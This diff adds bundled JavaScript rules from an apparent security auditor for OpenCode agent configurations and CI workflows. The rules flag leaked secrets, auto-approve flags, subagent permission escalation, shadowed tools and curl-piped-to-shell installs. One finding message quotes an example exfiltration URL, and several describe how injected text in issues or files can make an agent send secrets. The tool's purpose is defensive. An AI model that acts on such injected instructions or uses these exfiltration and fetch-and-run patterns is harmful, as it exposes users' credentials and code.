+const secretInChange = {
+    id: 'secret-in-change',
+    title: 'The pull request adds a credential',
+    summary: 'A line that the pull request adds holds a credential.',
+    severity: 'high',
+    confidence: 'medium',
+    category: 'exposure',
+    *check({ secrets }) {
+        for (const secret of secrets) {
+            if (secret.kind !== 'change')
+                continue;
+            const message = `This line holds ${secret.what}. Everyone who can read the repository has it, and a review sends it to the model with the change.`;
+            yield { ...hitForSecret(secret), message, remedy: secret_in_change_REMEDY };
+        }
+    },
+};
+const secret_in_change_REMEDY = 'Revoke it now: whoever saw the branch has it. Then read the new one from the environment or a secret store, and take the old one out of the history before the branch is merged.';
+
+;// CONCATENATED MODULE: ./build/audit/rules/share-enabled.js
+
+
+
+
+
+const shareEnabled = {
+    id: 'share-enabled',
+    title: 'Sessions are published',
+    summary: 'Sessions, with the code and output in them, are uploaded to an address that anyone who knows it can read.',
+    severity: 'high',
+    confidence: 'high',
+    category: 'exposure',
+    *check(context) {
+        for (const node of effective(context, 'share')) {
+            if (stringOf(node) !== 'auto')
+                continue;
+            yield {
+                ...at(node.place),
+                message: MESSAGE,
+                scope: 'share',
+                remedy: share_enabled_REMEDY,
+                ...suggesting(context, node.place, 'disabled'),
+            };
+        }
+        for (const node of effective(context, 'autoshare')) {
+            if (booleanOf(node) !== true)
+                continue;
+            yield {
+                ...at(node.place),
+                message: MESSAGE,
+                scope: 'autoshare',
+                remedy: share_enabled_REMEDY,
+                ...suggesting(context, node.place, false),
+            };
+        }
+        for (const place of sharingRuns(context)) {
+            yield { ...at(place), message: MESSAGE, scope: 'workflow', remedy: REMEDY_IN_WORKFLOW };
+        }
+    },
+};
+const MESSAGE = 'Every session is uploaded as it goes: prompts, the files that were read and what commands printed, for everyone who has the link.';
+const share_enabled_REMEDY = 'Set "share" to "disabled".';
+const REMEDY_IN_WORKFLOW = 'Take it out, and set OPENCODE_DISABLE_SHARE to 1.';
+function at({ path, line }) {
+    return { path, line };
+}
+/** `--share` on the command line, `OPENCODE_AUTO_SHARE`, and the `share` input of OpenCode's own action. */
+function* sharingRuns(context) {
+    for (const workflow of workflowsOf(context)) {
+        for (const variable of workflow.variables) {
+            if (variable.key === 'OPENCODE_AUTO_SHARE' && /^(?:1|true)$/.test(variable.text))
+                yield variable.place;
+        }
+        for (const { step } of workflow.steps) {
+            if (!runsOpenCode(step))
+                continue;
+            const input = step.inputs.find(({ key, text }) => key === 'share' && text === 'true');
+            if (input !== undefined)
+                yield input.place;
+            const commands = step.run === null ? [] : openCodeCommands(step.run.text);
+            const shares = commands.some((command) => /\s--share(?=\s|$)/.test(command));
+            if (step.run !== null && shares)
+                yield placeInRun(context, step.run, '--share');
+        }
+    }
+}
+
+;// CONCATENATED MODULE: ./build/audit/rules/shell-override.js
+
+
+
+const shellOverride = {
+    id: 'shell-override',
+    title: 'Another shell takes the place of the usual one',
+    summary: 'The configuration makes OpenCode run every command through a program that is not a shell of the system.',
+    severity: 'high',
+    confidence: 'high',
+    category: 'code-execution',
+    *check(context) {
+        for (const node of effective(context, 'shell')) {
+            const shell = stringOf(node);
+            if (shell === undefined || SYSTEM.test(shell))
+                continue;
+            const { path, line } = node.place;
+            const message = `OpenCode runs every command of an agent, and every command in a template, through ${quoteName(shell)}: that program sees them all and decides what really happens.`;
+            yield { path, line, message, scope: 'shell', remedy: shell_override_REMEDY };
+        }
+    },
+};
+const shell_override_REMEDY = 'Remove the key, so that each machine uses its own shell; or name a shell of the system, such as /bin/bash.';
+/** A bare name is looked up on the machine; these folders belong to its administrator. */
+const SYSTEM = /^(?:(?:\/usr(?:\/local)?)?\/bin\/|\/opt\/homebrew\/bin\/|\/run\/current-system\/sw\/bin\/|[Cc]:[\\/](?:Windows|Program Files)[\\/][\w .()\\/-]*)?(?:bash|zsh|sh|dash|ksh|fish|nu|pwsh|powershell|cmd)(?:\.exe)?$/;
+
+;// CONCATENATED MODULE: ./build/audit/rules/skill-description-changed.js
+
+
+
+const skillDescriptionChanged = {
+    id: 'skill-description-changed',
+    title: 'A skill is chosen for other work',
+    summary: 'The pull request changes the description of a skill: agents decide by it when to load the skill.',
+    severity: 'low',
+    confidence: 'high',
+    category: 'configuration',
+    *check(context) {
+        for (const { now, before } of skillsBefore(context)) {
+            const entry = descriptionOf(now);
+            const [from, to] = [stringOf(descriptionOf(before)?.node), stringOf(entry?.node)];
+            if (from === undefined || from === to)
+                continue;
+            const path = now.path;
+            const message = `Agents load the skill ${quoteName(now.name)} by another description than at the base${to === undefined ? ': it has none now' : ''}. It decides when the text of the skill becomes part of a prompt, and every agent has it in front of it.`;
+            yield {
+                path,
+                line: entry?.place.line ?? 0,
+                message,
+                identity: `${now.name}\n${to ?? ''}`,
+                remedy: skill_description_changed_REMEDY,
+            };
+        }
+    },
+};
+const skill_description_changed_REMEDY = 'Check that the new description says only when the skill is of use: no orders to the agent, and no wider case than the skill is made for.';
+function descriptionOf({ root }) {
+    return root?.kind === 'object' && get(root, 'description') ? root.entries.get('description') : undefined;
+}
+
+;// CONCATENATED MODULE: ./build/audit/rules/skills-remote.js
+
+
+
+
+
+const skillsRemote = {
+    id: 'skills-remote',
+    title: 'Skills from an address',
+    summary: 'OpenCode downloads skills from the network and offers them to every agent.',
+    severity: 'high',
+    confidence: 'high',
+    category: 'supply-chain',
+    *check(context) {
+        for (const { root } of configsOf(context)) {
+            const skills = get(root, 'skills');
+            for (const { text, place } of [...textsInList(get(skills, 'urls')), ...textsInList(skills)]) {
+                if (!isRemote(text))
+                    continue;
+                const { path, line } = place;
+                const message = `Whoever controls ${quoteName(text)} decides which skills agents here load, with what instructions and scripts; no diff shows a change.`;
+                yield { path, line, message, scope: 'skills', remedy: skills_remote_REMEDY };
+            }
+        }
+    },
+};
+const skills_remote_REMEDY = 'Copy the skills that are used into .opencode/skills, where a pull request shows every change.';
+
+;// CONCATENATED MODULE: ./build/audit/rules/substitution-syntax.js
+
+
+
+
+
+
+
+const substitutionSyntax = {
+    id: 'substitution-syntax',
+    title: 'A variable that OpenCode does not put in',
+    summary: 'A variable is written in a way that OpenCode does not replace, so that the text itself is used.',
+    severity: 'low',
+    confidence: 'high',
+    category: 'configuration',
+    *check(context) {
+        for (const { root } of configsOf(context)) {
+            for (const text of candidates(root)) {
+                const wrong = WRONG.exec(text.text);
+                if (wrong === null)
+                    continue;
+                const right = text.text.replace(ALL_WRONG, (_, ...groups) => `{env:${nameIn(groups)}}`);
+                const { path, line } = text.place;
+                const becomes = wrong[0].startsWith('${env:')
+                    ? 'OpenCode replaces only what is in the braces, and the "$" stays in front of the value'
+                    : 'OpenCode does not replace it, and the text itself is used';
+                const message = `${quoteName(wrong[0])}: ${becomes}.`;
+                const remedy = `Write ${quoteName(right)}.`;
+                yield { path, line, message, scope: text.key, remedy, ...suggesting(context, text.place, right) };
+            }
+        }
+    },
+};
+const NAME = '[A-Za-z_][A-Za-z0-9_]*';
+const FORMS = String.raw `\$\{env:(${NAME})\}|\$env:(${NAME})|\$\{(${NAME})(?::-[^{}]*)?\}|\{\s+env:(${NAME})\s*\}|\{ENV:(${NAME})\}`;
+const WRONG = new RegExp(FORMS);
+const ALL_WRONG = new RegExp(FORMS, 'g');
+function nameIn(groups) {
+    const name = groups.find((group) => typeof group === 'string' && group !== '');
+    return typeof name === 'string' ? name : '';
+}
+/** Where a variable is meant to be put in. A shell's own program has variables of its own. */
+function* candidates(root) {
+    yield* textsBelow(get(root, 'provider'));
+    yield* textsInList(get(root, 'instructions'));
+    for (const server of serversIn(get(root, 'mcp'))) {
+        if (server.url !== null)
+            yield server.url;
+        yield* server.headers;
+        yield* server.environment;
+        if (inlineCode(server.command.map((word) => word.text)) === null)
+            yield* server.command;
+    }
+}
+
+;// CONCATENATED MODULE: ./build/audit/rules/substitution-to-remote.js
+
+
+
+
+
+
+
+const substitutionToRemote = {
+    id: 'substitution-to-remote',
+    title: 'A variable or file leaves the machine',
+    summary: 'The value of a variable, or a file outside the repository, flows into a prompt, an address or a header.',
+    severity: 'high',
+    confidence: 'high',
+    category: 'exposure',
+    *check(context) {
+        for (const { text, where } of flows(context)) {
+            const { path, line } = text.place;
+            const message = `${where.what} ${where.goes}, from everyone who starts OpenCode here.`;
+            yield { path, line, message, scope: where.scope, remedy: substitution_to_remote_REMEDY };
+        }
+    },
+};
+const substitution_to_remote_REMEDY = 'Write the value itself where it is no secret. A key belongs into "apiKey" of the provider it was made for, and nowhere else; text for prompts belongs into a file of the repository.';
+function* flows(context) {
+    for (const key of ['agent', 'agents', 'mode', 'command']) {
+        for (const entry of effectiveEntries(context, key))
+            yield* promptFlows(`${key}.${entry.key}`, entry.node);
+    }
+    for (const { root } of configsOf(context)) {
+        const addresses = [
+            ...textsInList(get(root, 'instructions')),
+            ...textsInList(get(get(root, 'skills'), 'urls')),
+        ];
+        for (const text of addresses.filter((one) => /^https?:/i.test(one.text))) {
+            yield* flow(text, 'instructions', 'becomes part of an address that is fetched', () => true);
+        }
+    }
+    for (const entry of effectiveEntries(context, 'provider'))
+        yield* providerFlows(entry.key, entry.node);
+}
+function* promptFlows(scope, node) {
+    for (const text of textsByKey(node)) {
+        if (!['prompt', 'template', 'description'].includes(text.key))
+            continue;
+        yield* flow(text, scope, 'becomes part of a prompt and goes to the model', () => true);
+    }
+}
+function* providerFlows(name, provider) {
+    const options = get(provider, 'options');
+    const base = textsByKey(options).find(({ key }) => key === 'baseURL');
+    const address = base === undefined ? null : parseAddress(base.text);
+    const scope = `provider.${name}`;
+    // What begins with a substitution is an address that the environment chooses, not one that gets a value.
+    if (base !== undefined && address !== null && !address.isLoopback) {
+        yield* flow(base, scope, 'becomes part of the address of every model call', () => true);
+    }
+    if (address?.isLoopback === true)
+        return;
+    const headers = [
+        get(options, 'headers'),
+        ...entriesOf(get(provider, 'models')).map(({ node }) => get(node, 'headers')),
+    ];
+    const goes = `goes to ${address === null ? 'the provider' : quoteName(address.host)} with every model call`;
+    for (const text of headers.flatMap(textsByKey)) {
+        yield* flow(text, scope, goes, (one) => isForeign(one, address?.host ?? null));
+    }
+    for (const text of textsByKey(options)) {
+        if (text.key === 'apiKey' && address !== null)
+            yield* flow(text, scope, goes, (one) => isForeign(one, address.host));
+    }
+}
+/** A credential that was made for another service than the one that gets it. */
+function isForeign({ kind, what }, host) {
+    const credential = kind === 'env' ? credentialNamed(what) : null;
+    return credential !== null && (host === null || !isHostOf(credential, host));
+}
+function* flow(text, scope, goes, counts) {
+    const found = substitutionsIn(text.text).find((one) => !(one.kind === 'file' && isRepositoryFile(one.what, text.place.path)) && counts(one));
+    if (found === undefined)
+        return;
+    const what = `${found.kind === 'env' ? 'The variable' : 'The file'} ${quoteName(found.what)}`;
+    yield { text, where: { what, goes, scope: `${scope}.${text.key}` } };
+}
+
+;// CONCATENATED MODULE: ./build/audit/rules/task-escalates.js
+
+
+
+
+
+
+
+const taskEscalates = {
+    id: 'task-escalates',
+    title: 'A limited agent starts one without its limits',
+    summary: 'An agent may start a subagent that does what the agent itself is denied.',
+    severity: 'high',
+    confidence: 'high',
+    category: 'permissions',
+    *check(context) {
+        if (context.project.semantics.inheritsDenials)
+            return;
+        for (const placed of agentsOf(context)) {
+            const { agent } = placed;
+            const found = escalation(placed);
+            const rule = found === null ? undefined : decidingRule(agent.rules, 'task', found.reached.agent.name);
+            const spot = rule === undefined ? null : spotOf(agent, rule);
+            if (found === null || rule === undefined || spot === null)
+                continue;
+            const { reached, gains } = found;
+            const between = reached.by.slice(1);
+            const via = between.length === 0 ? '' : ` by way of ${quoteNames(between)}`;
+            const message = `The agent ${quoteName(agent.name)} may not ${gains.join(' or ')}, but may start ${quoteName(reached.agent.name)}${via} with "task", which may: a subagent inherits none of these limits.`;
+            const isHere = rule.origin?.path === spot.path && rule.origin.line === spot.line;
+            const offer = isHere
+                ? withAction(context, rule, 'deny')
+                : withPermission(context, agent, 'task', 'deny');
+            yield { ...spot, message, remedy: task_escalates_REMEDY, ...offer };
+        }
+    },
+};
+const task_escalates_REMEDY = 'Add "task": "deny", or start a map with "*": "deny" and allow the subagents that may do no more than this agent.';
+
+;// CONCATENATED MODULE: ./build/audit/rules/telemetry-export.js
+
+
+
+
+
+
+
+const telemetryExport = {
+    id: 'telemetry-export',
+    title: 'Traces of sessions are exported',
+    summary: 'OpenCode sends traces and logs of its sessions to a collector.',
+    severity: 'medium',
+    confidence: 'high',
+    category: 'exposure',
+    *check(context) {
+        for (const node of effective(context, 'experimental')) {
+            const flag = get(node, 'openTelemetry');
+            if (flag === undefined || booleanOf(flag) !== true)
+                continue;
+            const { path, line } = flag.place;
+            const message = 'Every model call is traced, with prompts and answers, and sent to whatever collector the environment names.';
+            yield {
+                path,
+                line,
+                message,
+                scope: 'openTelemetry',
+                remedy: telemetry_export_REMEDY,
+                ...suggesting(context, flag.place, false),
+            };
+        }
+        for (const workflow of workflowsOf(context)) {
+            if (!startsOpenCode(workflow, context))
+                continue;
+            for (const { key, text, place } of workflow.variables) {
+                if (!/^OTEL_EXPORTER_OTLP_(?:\w+_)?ENDPOINT$/.test(key) || !leaves(text))
+                    continue;
+                const { path, line } = place;
+                const message = `OpenCode exports traces and logs of its sessions to ${quoteName(text)}.`;
+                yield { path, line, message, scope: key, remedy: telemetry_export_REMEDY_IN_WORKFLOW };
+            }
+        }
+    },
+};
+const telemetry_export_REMEDY = 'Set it to false, or remove it.';
+const telemetry_export_REMEDY_IN_WORKFLOW = 'Unset the variable for the step that runs OpenCode.';
+/** What an expression gives is not known here, so it counts. */
+function leaves(text) {
+    return text.includes('${{') || isRemote(text);
+}
+
+;// CONCATENATED MODULE: ./build/audit/rules/tool-local-code.js
+
+const toolLocalCode = {
+    id: 'tool-local-code',
+    title: 'A tool of the repository is code that runs at start-up',
+    summary: 'A tool file in the repository is imported when OpenCode starts in it, before any permission applies.',
+    severity: 'high',
+    confidence: 'high',
+    category: 'code-execution',
+    *check(context) {
+        for (const asset of context.project.assets.values()) {
+            if (!isToolFile(asset))
+                continue;
+            const message = asset.kind === 'tool'
+                ? 'OpenCode imports this file when it starts, with all rights of the user; --pure does not stop it. When the model calls the tool, no question is asked: only a denial of the whole tool holds.'
+                : 'Tools beside this file can import it; it then runs when OpenCode starts, with all rights of the user.';
+            const identity = `content\n${asset.text ?? touchedBlobs(asset.path, context)}`;
+            yield { path: asset.path, line: 0, message, identity, remedy: tool_local_code_REMEDY };
+        }
+    },
+};
+const tool_local_code_REMEDY = 'Offer the tool as an MCP server at an exact version, or have the owners of the repository read this file and accept the finding by its fingerprint in the policy.';
+function isToolFile(asset) {
+    return asset.kind === 'tool' || (asset.kind === 'other' && /^tools?\/.*\.[cm]?[jt]sx?$/s.test(asset.name));
+}
+
+;// CONCATENATED MODULE: ./build/audit/rules/tool-shadows-builtin.js
+
+const toolShadowsBuiltin = {
+    id: 'tool-shadows-builtin',
+    title: 'A tool takes the place of a built-in one',
+    summary: "A tool of the repository has the name of one of OpenCode's own tools and takes its place.",
+    severity: 'high',
+    confidence: 'high',
+    category: 'code-execution',
+    *check({ project }) {
+        for (const asset of project.assets.values()) {
+            if (asset.kind !== 'tool')
+                continue;
+            const tool = toolNames(asset).find((name) => BUILT_IN_TOOLS.has(name));
+            if (tool === undefined)
+                continue;
+            const message = `The model calls this code in place of OpenCode's own ${quoteName(tool)}: it may return what it likes, send on what it sees, and ask for no permission.`;
+            yield { path: asset.path, line: 0, message, scope: `tool ${tool}`, remedy: tool_shadows_builtin_REMEDY };
+        }
+    },
+};
+const tool_shadows_builtin_REMEDY = 'Give the file another name; the name of the tool follows from it.';
+const BUILT_IN_TOOLS = new Set([
+    'apply_patch',
+    'bash',
+    'edit',
+    'glob',
+    'grep',
+    'invalid',
+    'list_mcp_resource_templates',
+    'list_mcp_resources',
+    'lsp',
+    'plan_enter',
+    'plan_exit',
+    'question',
+    'read',
+    'read_mcp_resource',
+    'skill',
+    'StructuredOutput',
+    'task',
+    'todowrite',
+    'webfetch',
+    'websearch',
+    'write',
+]);
+/** The default export has the file's name; any other one is `file_export`. */
+function toolNames({ name, text }) {
+    const hasDefault = text === null || /\bexport\s+default\b|\bas\s+default\b|\bexports\b/.test(text);
+    const exported = [
+        ...(text ?? '').matchAll(/\bexport\s+(?:const|let|var|function|async function)\s+(\w+)/g),
+    ];
+    return [...(hasDefault ? [name] : []), ...exported.map((match) => `${name}_${match[1] ?? ''}`)];
+}
+
+;// CONCATENATED MODULE: ./build/audit/rules/v2-permissions-ignored.js
+
+
+
+const v2PermissionsIgnored = {
+    id: 'v2-permissions-ignored',
+    title: 'Permissions that OpenCode does not read',
+    summary: 'The front matter of an agent has the key permissions, which OpenCode 1.x ignores without a word.',
+    severity: 'high',
+    confidence: 'high',
+    category: 'permissions',
+    *check({ project, policy }) {
+        if (Number.parseInt(policy.opencodeVersion ?? '1', 10) >= 2)
+            return;
+        for (const asset of project.assets.values()) {
+            if (asset.kind !== 'agent' && asset.kind !== 'mode')
+                continue;
+            const entry = entriesOf(asset.root ?? undefined).find(({ key }) => key === 'permissions');
+            if (entry !== undefined)
+                yield v2_permissions_ignored_hitFor(asset, entry);
+        }
+    },
+};
+const RENAME = 'Write "permission".';
+const v2_permissions_ignored_REMEDY = 'Write a "permission" with keys and patterns, for example permission: { "*": deny, read: allow }; of several that match, the last one decides.';
+function v2_permissions_ignored_hitFor(asset, { place: { path, line }, node }) {
+    const message = `The agent ${quoteName(asset.name)} is not limited by this: OpenCode 1.x reads "permission", and takes "permissions" for an option of the model. What is written below it has no effect.`;
+    const hit = { path, line, message, scope: 'permissions' };
+    const text = asset.lines[line - 1] ?? '';
+    const suggestion = text.replace(/^(\s*["']?permission)s\b/, '$1');
+    const hasOther = get(asset.root ?? undefined, 'permission') !== undefined;
+    if (!isVersion1(node) || hasOther || suggestion === text)
+        return { ...hit, remedy: v2_permissions_ignored_REMEDY };
+    return { ...hit, remedy: RENAME, suggestion };
+}
+/** A map of actions, or of patterns with actions, as version 1 has it. */
+function isVersion1(node) {
+    if (actionOf(node) !== null)
+        return true;
+    const entries = entriesOf(node);
+    return (entries.length > 0 &&
+        entries.every((entry) => actionOf(entry.node) !== null ||
+            (entriesOf(entry.node).length > 0 &&
+                entriesOf(entry.node).every((inner) => actionOf(inner.node) !== null))));
+}
+
+;// CONCATENATED MODULE: ./build/audit/rules/webfetch-with-secrets.js
+
+
+
+
+const webfetchWithSecrets = {
+    id: 'webfetch-with-secrets',
+    title: 'Secrets can be read and sent away',
+    summary: 'An agent may fetch any address and read files that hold secrets, both without asking.',
+    severity: 'medium',
+    confidence: 'medium',
+    category: 'permissions',
+    *check(context) {
+        for (const { spot, value, agents } of bySpot(webfetch_with_secrets_casesOf(context))) {
+            const message = `${agentsMay(agents)} fetch any address, and read ${value.secret} unasked: a text that tells it to can have "https://any.example/?k=…" fetched with what it read.`;
+            yield { ...spot, message, remedy: webfetch_with_secrets_REMEDY, ...withAction(context, value.rule, 'ask') };
+        }
+    },
+};
+const webfetch_with_secrets_REMEDY = 'Set webfetch to "ask" or "deny" for agents that work where secrets are, or deny "*.env" and "*.env.*" under read.';
+function* webfetch_with_secrets_casesOf(context) {
+    for (const { agent } of agentsOf(context)) {
+        const leak = fetchLeak(agent);
+        if (leak !== null)
+            yield { spot: spotOfRule(leak.rule), agent, value: leak };
+    }
+}
+
+;// CONCATENATED MODULE: ./build/audit/rules/workflow-auto-approve.js
+
+
+
+
+
+
+
+
+const workflowAutoApprove = {
+    id: 'workflow-auto-approve',
+    title: 'A workflow approves what the agent asks for',
+    summary: 'A workflow runs OpenCode so that every question is answered with yes, or opens its permissions.',
+    severity: 'high',
+    confidence: 'high',
+    category: 'permissions',
+    *check(context) {
+        for (const workflow of workflowsOf(context)) {
+            for (const { step } of workflow.steps)
+                yield* flags(step, context);
+            for (const variable of [
+                ...workflow.variables,
+                ...workflow.steps.flatMap(({ step }) => exportsOf(step, context)),
+            ]) {
+                const opened = openedBy(variable);
+                if (opened === null)
+                    continue;
+                const { path, line } = variable.place;
+                const message = `${quoteName(variable.key)} allows ${opened} to every agent that this workflow runs, and nobody is asked.`;
+                yield { path, line, message, scope: variable.key, remedy: workflow_auto_approve_REMEDY };
+            }
+        }
+    },
+};
+const workflow_auto_approve_REMEDY = 'Leave it out: without it a question is answered with no. Allow what the job needs, command by command, in the permission of the agent that it runs.';
+const FLAG = /(?:^|\s)(--(?:auto|yolo|dangerously-skip-permissions))(?=\s|=|$)/;
+function* flags(step, context) {
+    if (!runsOpenCode(step))
+        return;
+    const scripts = step.run === null ? step.inputs : [step.run];
+    for (const script of scripts) {
+        const commands = step.run === null ? [script.text] : openCodeCommands(script.text);
+        const flag = commands.map((command) => FLAG.exec(command)?.[1]).find((found) => found !== undefined);
+        if (flag === undefined)
+            continue;
+        const { path, line } = placeInRun(context, script, flag);
+        const message = `With ${flag} everything is approved that the permissions wanted to ask for, on a machine where nobody watches.`;
+        yield { path, line, message, remedy: workflow_auto_approve_REMEDY };
+    }
+}
+/** `NAME=value` in a script, also before a command or into the file that sets variables for later steps. */
+function exportsOf({ run }, context) {
+    if (run === null)
+        return [];
+    return [
+        ...run.text.matchAll(/\b(OPENCODE_(?:PERMISSION|CONFIG_CONTENT))=(?:'([^']{0,4096})'|"((?:[^"\\]|\\.){0,4096})"|(\S+))/g),
+    ].map(([, key = '', single, double, bare]) => ({
+        key,
+        text: single ?? double?.replace(/\\(.)/g, '$1') ?? bare?.replace(/["']+$/, '') ?? '',
+        place: placeInRun(context, run, `${key}=`),
+    }));
+}
+/** What a variable opens, in words; null when it opens nothing that can be seen. */
+function openedBy({ key, text, place }) {
+    if (key !== 'OPENCODE_PERMISSION' && key !== 'OPENCODE_CONFIG_CONTENT')
+        return null;
+    const { root } = parseJsonc(text, place.path);
+    const permission = key === 'OPENCODE_PERMISSION' ? root : get(root ?? undefined, 'permission');
+    const opened = openKeys(permission ?? undefined);
+    return opened.length === 0 ? null : opened.join(', ');
+}
+function openKeys(permission) {
+    const rules = permissionRules(normalisePermission(permission), 'permission');
+    return ['bash', 'edit', 'external_directory'].filter((key) => decidingRule(rules, key, PROBES[key])?.action === 'allow');
+}
+
+;// CONCATENATED MODULE: ./build/audit/rules/workflow-opencode-unpinned.js
+
+
+
+
+const workflowOpencodeUnpinned = {
+    id: 'workflow-opencode-unpinned',
+    title: 'A workflow runs whatever OpenCode is newest',
+    summary: 'A workflow gets OpenCode, or an action around it, without an exact version.',
+    severity: 'high',
+    confidence: 'high',
+    category: 'supply-chain',
+    *check(context) {
+        for (const workflow of workflowsOf(context)) {
+            const jobs = workflow.jobs.flatMap((job) => (job.uses === null ? [] : [job.uses]));
+            const actions = [
+                ...jobs,
+                ...workflow.steps.flatMap(({ step }) => (step.uses === null ? [] : [step.uses])),
+            ];
+            for (const { text, place } of actions) {
+                if (!/opencode/i.test(text) || isExactAction(text))
+                    continue;
+                const { path, line } = place;
+                const message = `${quoteName(text)} is a name that can be moved: whoever moves it runs code in this job, with its token and its secrets.`;
+                yield {
+                    path,
+                    line,
+                    message,
+                    scope: text,
+                    remedy: 'Write the full commit in place of the tag, and the tag in a comment.',
+                };
+            }
+            for (const { step } of workflow.steps) {
+                for (const { what, remedy, place } of installs(step, context)) {
+                    const message = `This runs ${what}: whoever publishes next runs code in this job, with its token and its secrets.`;
+                    yield { path: place.path, line: place.line, message, remedy };
+                }
+            }
+        }
+    },
+};
+function isExactAction(uses) {
+    if (/^\.{1,2}\//.test(uses))
+        return true;
+    return uses.startsWith('docker://') ? isPinned('image', uses) : /@[0-9a-f]{40}$/.test(uses);
+}
+function installs({ run }, context) {
+    if (run === null || !/opencode/i.test(run.text))
+        return [];
+    const found = [];
+    if (run.text
+        .replace(/\\\r?\n/g, ' ')
+        .split('\n')
+        .some(isPiped)) {
+        const remedy = 'Install the package opencode-ai at an exact version; or check the digest of what was fetched before it runs.';
+        const place = placeInRun(context, run, 'opencode');
+        found.push({ what: 'a script from the network as it is today', remedy, place });
+    }
+    for (const command of commandsIn(run.text)) {
+        const words = command.split(/\s+/).map((word) => word.replace(/^["']|["']$/g, ''));
+        const specs = words.filter((word) => PACKAGE.test(word));
+        // What a variable names is decided elsewhere.
+        if (specs.length === 0 || specs.some((spec) => spec.includes('$')) || !isNewest(words))
+            continue;
+        const remedy = 'Name the exact version: opencode-ai@1.2.3.';
+        found.push({ what: 'the newest opencode-ai', remedy, place: placeInRun(context, run, 'opencode-ai') });
+    }
+    return found;
+}
+const PACKAGE = /^opencode-ai(?:@\S*)?$/;
+/** What is fetched from OpenCode's address goes straight into a shell. */
+function isPiped(line) {
+    if (!/\b(?:curl|wget)\b/.test(line) || !line.includes('opencode'))
+        return false;
+    if (/\|\s*(?:sudo\s+)?(?:[A-Z_]+=\S+\s+)*(?:ba|z|da)?sh\b/.test(line))
+        return true;
+    return /(?:<\(|\$\()\s*(?:curl|wget)\b/.test(line) && /(?:^|\s)(?:ba|z|da)?sh\s/.test(line);
+}
+/** `npm install opencode-ai`, `npx opencode-ai@latest`. */
+function isNewest(words) {
+    if (findUnpinned(words) !== null)
+        return true;
+    const manager = words.findIndex((word) => /^(?:npm|pnpm|yarn|bun)$/.test(word));
+    const verb = words.findIndex((word, index) => index > manager && /^(?:install|i|add)$/.test(word));
+    if (manager < 0 || verb < 0)
+        return false;
+    const spec = words.slice(verb).find((word) => PACKAGE.test(word));
+    return spec !== undefined && !isPinned('npm', spec);
+}
+
+;// CONCATENATED MODULE: ./build/audit/rules/workflow-secrets-beside-agent.js
+
+
+
+
+const workflowSecretsBesideAgent = {
+    id: 'workflow-secrets-beside-agent',
+    title: 'Secrets lie beside an agent that reads what strangers write',
+    summary: 'A job that anyone can feed with text runs an OpenCode agent with secrets in its environment.',
+    severity: 'high',
+    confidence: 'medium',
+    category: 'exposure',
+    *check(context) {
+        for (const workflow of workflowsOf(context)) {
+            const trigger = workflow.triggers.find((name) => UNTRUSTED.has(name));
+            if (trigger === undefined)
+                continue;
+            for (const job of workflow.jobs) {
+                for (const step of agentSteps(job, context))
+                    yield* workflow_secrets_beside_agent_hitsFor(step, job, workflow, trigger);
+            }
+        }
+    },
+};
+const workflow_secrets_beside_agent_REMEDY = 'Run the agent in a job without secrets, whose output a second job checks and uses; or let something outside the agent hold the key, as OpenCode Review Gate does.';
+/** Events whose text, code or files come from people without rights here, and which get secrets all the same. */
+const UNTRUSTED = new Set([
+    'discussion',
+    'discussion_comment',
+    'issue_comment',
+    'issues',
+    'pull_request_review',
+    'pull_request_review_comment',
+    'pull_request_target',
+    'workflow_run',
+]);
+function* workflow_secrets_beside_agent_hitsFor(step, job, workflow, trigger) {
+    const texts = [...workflow.environment, ...job.environment, ...step.environment, ...step.inputs];
+    const token = canWrite(job.permissions ?? workflow.permissions);
+    const names = [...new Set(texts.flatMap((text) => secretsIn(text, token)))];
+    if (names.length === 0)
+        return;
+    const first = texts.find((text) => secretsIn(text, token).length > 0)?.place ?? step.place;
+    const message = `On ${trigger} anyone can write what this agent reads, and ${quoteNames(names)} ${names.length === 1 ? 'is' : 'are'} in its environment: one sentence in an issue or a file can make it print or send them.`;
+    yield { path: first.path, line: first.line, message, scope: `job ${job.name}`, remedy: workflow_secrets_beside_agent_REMEDY };
+}
+function secretsIn({ text }, token) {
+    const names = [...text.matchAll(/\bsecrets\s*(?:\.\s*(\w+)|\[\s*'(\w+)'\s*\])/g)].map(([, dotted, indexed]) => dotted ?? indexed ?? '');
+    const own = /\bgithub\s*\.\s*token\b/.test(text) ? [...names, 'GITHUB_TOKEN'] : names;
+    return own.filter((name) => token || name !== 'GITHUB_TOKEN');
+}
+/** Whether the job's token may change the repository. Without the key, the settings of the repository decide. */
+function canWrite(permissions) {
+    if (permissions === undefined)
+        return true;
+    if (stringOf(permissions) === 'write-all')
+        return true;
+    return ['contents', 'actions', 'packages', 'id-token', 'pull-requests', 'deployments'].some((key) => stringOf(get(permissions, key)) === 'write');
+}
+
+;// CONCATENATED MODULE: ./build/audit/rules/workflow-untrusted-checkout.js
+
+
+const workflowUntrustedCheckout = {
+    id: 'workflow-untrusted-checkout',
+    title: "OpenCode starts in a stranger's checkout",
+    summary: 'A job with secrets checks out the head of a pull request and starts OpenCode in it.',
+    severity: 'critical',
+    confidence: 'high',
+    category: 'code-execution',
+    *check(context) {
+        for (const workflow of workflowsOf(context)) {
+            const trigger = workflow.triggers.find((name) => PRIVILEGED.has(name));
+            if (trigger === undefined)
+                continue;
+            for (const job of workflow.jobs)
+                yield* hitsIn(job, trigger, context);
+        }
+    },
+};
+const workflow_untrusted_checkout_REMEDY = 'Run on pull_request, which has no secrets for forks; or check out the base only, and give the agent the change as text from outside of the folder it starts in.';
+/** Events that run with the rights of the base, whoever caused them. */
+const PRIVILEGED = new Set([
+    'issue_comment',
+    'issues',
+    'pull_request_target',
+    'workflow_run',
+]);
+const workflow_untrusted_checkout_HEAD = /github\.event\.(?:pull_request\.(?:head\.|merge_commit_sha)|workflow_run\.head_|issue\.number|number)|github\.head_ref|refs\/pull\/|\bpull\/\$|steps\.[\w-]{1,100}\.outputs\.[\w-]{0,100}(?:head|sha|ref|branch)/i;
+const FETCH = /\bgh\s+pr\s+checkout\b|\bgit\s+(?:fetch|pull|checkout|clone)\b[^\n]{0,300}(?:\bpull\/|github\.event\.pull_request\.head|github\.head_ref|HEAD_REF|HEAD_SHA|PR_HEAD)/i;
+function* hitsIn(job, trigger, context) {
+    const agent = agentSteps(job, context).at(-1);
+    if (agent === undefined)
+        return;
+    for (const step of job.steps.slice(0, job.steps.indexOf(agent) + 1)) {
+        const place = headCheckout(step, context);
+        if (place === null)
+            continue;
+        const message = `On ${trigger} this fetches what anyone may have written into a job with the repository's token and secrets, and OpenCode then starts there: it runs the plugins, tools and MCP servers of that checkout before any permission applies.`;
